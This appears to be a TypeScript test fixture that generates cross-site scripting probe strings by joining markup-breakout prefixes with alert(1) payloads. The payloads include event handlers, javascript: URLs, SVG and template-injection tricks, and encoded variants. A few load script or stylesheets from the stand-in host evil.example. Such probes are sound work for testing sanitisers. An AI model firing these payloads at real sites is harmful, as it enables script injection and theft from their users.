// Texts that would run if a page took them for markup, made by rules: what breaks out of where a text may stand, and what runs
// then. Each calls alert, so that a browser tells of every one that ran. Always the same ones, in the same order.

/** Out of an attribute, an element with text of its own, a comment, a template, another markup. */
const BREAKS = [
  "",
  '">',
  "'>",
  '" ',
  "' ",
  "`",
  "--></title></style></textarea>",
  "</td></tr></table>",
  "</script>",
  "</svg></math>",
  "]]>",
  "\\\"'",
]

const RUNS = [
  "<SCRIPT/x>alert(1)</SCRIPT\t>",
  "<script src=//evil.example/x></script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img/src/onerror=alert(1)//",
  "<image href=x onerror=alert`1`>",
  "<svg onload=alert(1)>",
  "<svg><script href=data:,alert(1) />",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x">',
  "<math><mtext><mglyph><style><img src=x onerror=alert(1)>",
  '<math href="javascript:alert(1)">x</math>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  "<iframe src=javascript:alert(1)>",
  "<object data=javascript:alert(1)>",
  "<embed src=javascript:alert(1)>",
  "<body onpageshow=alert(1)>",
  "<details open ontoggle=alert(1)>x",
  "<input autofocus onfocus=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<marquee onstart=alert(1)>",
  "<form action=javascript:alert(1)><button autofocus>",
  "<a href=javascript:alert(1)>x</a>",
  "<base href=//evil.example/>",
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<style>@import'//evil.example/x.css';*{background:url(//evil.example/y)}</style>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<template><img src=x onerror=alert(1)></template>",
  "<plaintext>",
  "<xmp><img src=x onerror=alert(1)></xmp>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<?xml version='1.0'?><x onclick=alert(1)>",
  "onmouseover=alert(1) autofocus onfocus=alert(1) x=",
  "style=animation-name:x onanimationstart=alert(1) x=",
  "javascript:alert(1)",
  "JaVaScRiPt&colon;alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "{{constructor.constructor('alert(1)')()}}",
  "${alert(1)}#{alert(1)}<%=alert(1)%>",
  "expression(alert(1));background:url(javascript:alert(1))",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;img src=x onerror=alert(1)&#62;",
  "%3Cscript%3Ealert(1)%3C/script%3E",
  "\\u003cscript\\u003ealert(1)\\x3c/script\\x3e",
  "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
  "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
  // Last, so that the newest of everything has one that runs wherever it is markup.
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
]

/** Those that run by themselves where they are taken for markup: to see that a browser here would tell. */
export const RUNNING = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>"]

/** Nearly six hundred, of no more than 120 characters, without control characters. */
export function markup(): string[] {
  const all = RUNS.flatMap((one) => BREAKS.map((breaking) => `${breaking}${one.replaceAll("\t", " ")}`))
  return [...new Set(all)]
}
